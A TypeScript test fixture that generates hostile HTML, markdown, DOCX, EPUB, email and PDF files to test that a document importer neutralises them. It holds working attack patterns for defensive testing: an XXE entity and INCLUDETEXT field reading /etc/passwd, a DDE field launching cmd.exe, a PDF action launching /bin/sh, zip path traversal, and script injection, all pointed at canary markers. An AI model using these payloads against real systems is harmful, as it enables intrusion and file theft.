import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import { strToU8, unzipSync, zipSync } from 'fflate/browser'
import { docx } from '../import/fixtures/docx.ts'
import { epub } from '../import/fixtures/files.ts'
import { loaders, markdown, mutations, schemes, scripts } from './vectors.fixture.ts'

/** Files that try to be more than documents. Not part of the application: for tests. */
export interface HostileFile {
  name: string
  bytes: Uint8Array
  /** Whether it has words that have to be read; what has none, or is damaged, may be refused. */
  hasWords: boolean
}

/** Stands in every file that has to be read. */
export const wordsThatStay = 'Words that stay, and enough of them to be an article’s own.'

const page = (markup: string) =>
  strToU8(
    `<!doctype html><html><head><title>Hostile</title></head><body><article><p>${wordsThatStay}</p>${markup}</article></body></html>`,
  )

/** Each piece of markup as a page of its own; the files of other formats. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const links = schemes.flatMap((scheme) => [`<a href="${scheme}">x</a>`, `<img src="${scheme}">`])
  const pages = [...scripts, ...mutations, ...loaders, ...links].map((markup, index) => ({
    name: `page${index}.html`,
    bytes: page(markup),
    // What has NUL in it is no text.
    hasWords: !markup.includes('\0'),
  }))
  const texts = markdown.map((text, index) => ({
    name: `text${index}.md`,
    bytes: strToU8(`${wordsThatStay}\n\n${text}`),
    hasWords: !text.startsWith('---'),
  }))
  return [...pages, ...texts, ...(await wordFiles()), ...books(), ...messages(), ...(await pdfs())]
}

async function wordFiles(): Promise<HostileFile[]> {
  const parts = unzipSync(await docx())
  const relations = (extra: string) =>
    strToU8(
      `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${extra}</Relationships>`,
    )
  const external = (type: string, target: string) =>
    `<Relationship Id="rIdX${target.length}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`
  const made = (name: string, more: Record<string, Uint8Array>, hasWords = true): HostileFile => ({
    name,
    bytes: zipSync({ ...parts, ...more }),
    hasWords,
  })
  return [
    made('template.docx', {
      'word/_rels/settings.xml.rels': relations(external('attachedTemplate', 'https://canary.example/x.dotm')),
    }),
    made('image.docx', {
      'word/_rels/document.xml.rels': relations(
        external('image', 'https://canary.example/a.png') +
          external('hyperlink', 'javascript:canary(1)') +
          external('oleObject', 'file:///etc/passwd'),
      ),
    }),
    made('macro.docx', {
      'word/vbaProject.bin': strToU8('canary'),
      'word/embeddings/oleObject1.bin': strToU8('canary'),
    }),
    made('up.docx', {
      '../../../../tmp/canary.txt': strToU8('canary'),
      '/tmp/canary.txt': strToU8('canary'),
      'C:\\canary.txt': strToU8('canary'),
    }),
    made('chunk.docx', { 'word/afchunk.html': strToU8('<script>canary(1)</script>') }),
    made(
      'entity.docx',
      {
        'word/document.xml': strToU8(
          '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>',
        ),
      },
      false,
    ),
    made(
      'field.docx',
      {
        'word/document.xml': strToU8(
          `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${wordsThatStay}</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>INCLUDETEXT "file:///etc/passwd"</w:instrText></w:r></w:p></w:body></w:document>`,
        ),
      },
      false,
    ),
  ]
}

function books(): HostileFile[] {
  const parts = unzipSync(epub())
  const chapter = (body: string) =>
    strToU8(
      `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title/></head><body><p>${wordsThatStay}</p>${body}</body></html>`,
    )
  return [
    {
      name: 'scripted.epub',
      bytes: zipSync({
        ...parts,
        'OEBPS/text/a.xhtml': chapter(
          '<script>canary(1)</script><img src="https://canary.example/a.png" onerror="canary(1)"/><a href="javascript:canary(1)">x</a>',
        ),
        '../../canary.txt': strToU8('canary'),
      }),
      hasWords: true,
    },
    {
      name: 'outside.epub',
      bytes: zipSync({
        ...parts,
        'META-INF/container.xml': strToU8(
          '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="../../../etc/passwd" media-type="application/oebps-package+xml"/></rootfiles></container>',
        ),
      }),
      hasWords: false,
    },
  ]
}

function messages(): HostileFile[] {
  const mail = (head: string, body: string) =>
    strToU8(`${head}\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${body}`)
  return [
    {
      name: 'tracked.eml',
      bytes: mail(
        'From: "<img src=x onerror=canary(1)>" <a@example.com>\r\nSubject: =?utf-8?B?PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=?=\r\nDate: Fri, 1 Mar 2024 10:00:00 +0000',
        `<p>${wordsThatStay}</p><img src="https://canary.example/pixel.gif" width=1 height=1><script>canary(1)</script><img src="cid:x" onerror="canary(1)">`,
      ),
      hasWords: true,
    },
    {
      name: 'external.eml',
      bytes: strToU8(
        'From: a@example.com\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: message/external-body; access-type=URL; URL="https://canary.example/x"\r\n\r\n',
      ),
      hasWords: false,
    },
  ]
}

async function pdfs(): Promise<HostileFile[]> {
  const made = async (name: string, change: (document: PDFDocument) => void): Promise<HostileFile> => {
    const document = await PDFDocument.create()
    document.addPage([400, 400]).drawText('Words that stay, and enough of them.', { x: 20, y: 300, size: 14 })
    change(document)
    return { name, bytes: await document.save({ useObjectStreams: false }), hasWords: true }
  }
  const action = (document: PDFDocument, entries: Record<string, string>) =>
    document.context.obj({
      Type: 'Action',
      ...Object.fromEntries(
        Object.entries(entries).map(([key, value]) => [key, key === 'S' ? PDFName.of(value) : PDFString.of(value)]),
      ),
    })
  const opening = (name: string, entries: Record<string, string>) =>
    made(name, (document) => document.catalog.set(PDFName.of('OpenAction'), action(document, entries)))
  const damaged = (await made('x.pdf', () => undefined)).bytes
  return [
    await opening('script.pdf', { S: 'JavaScript', JS: 'app.alert(1); canary(1)' }),
    await opening('launch.pdf', { S: 'Launch', F: '/bin/sh' }),
    await opening('visit.pdf', { S: 'URI', URI: 'https://canary.example/' }),
    await opening('submit.pdf', { S: 'SubmitForm', F: 'https://canary.example/' }),
    await opening('remote.pdf', { S: 'GoToR', F: '\\\\\\\\canary.example\\\\share\\\\a.pdf' }),
    await made('attached.pdf', (document) => {
      void document.attach(strToU8('MZ canary'), 'canary.exe', { mimeType: 'application/x-msdownload' })
    }),
    await made('titled.pdf', (document) => document.setTitle('<script>canary(1)</script>')),
    { name: 'cut.pdf', bytes: damaged.slice(0, damaged.length / 2), hasWords: false },
    { name: 'empty.pdf', bytes: strToU8('%PDF-1.7\n%%EOF'), hasWords: false },
    {
      name: 'endless.pdf',
      bytes: strToU8(
        '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
      ),
      hasWords: false,
    },
  ]
}
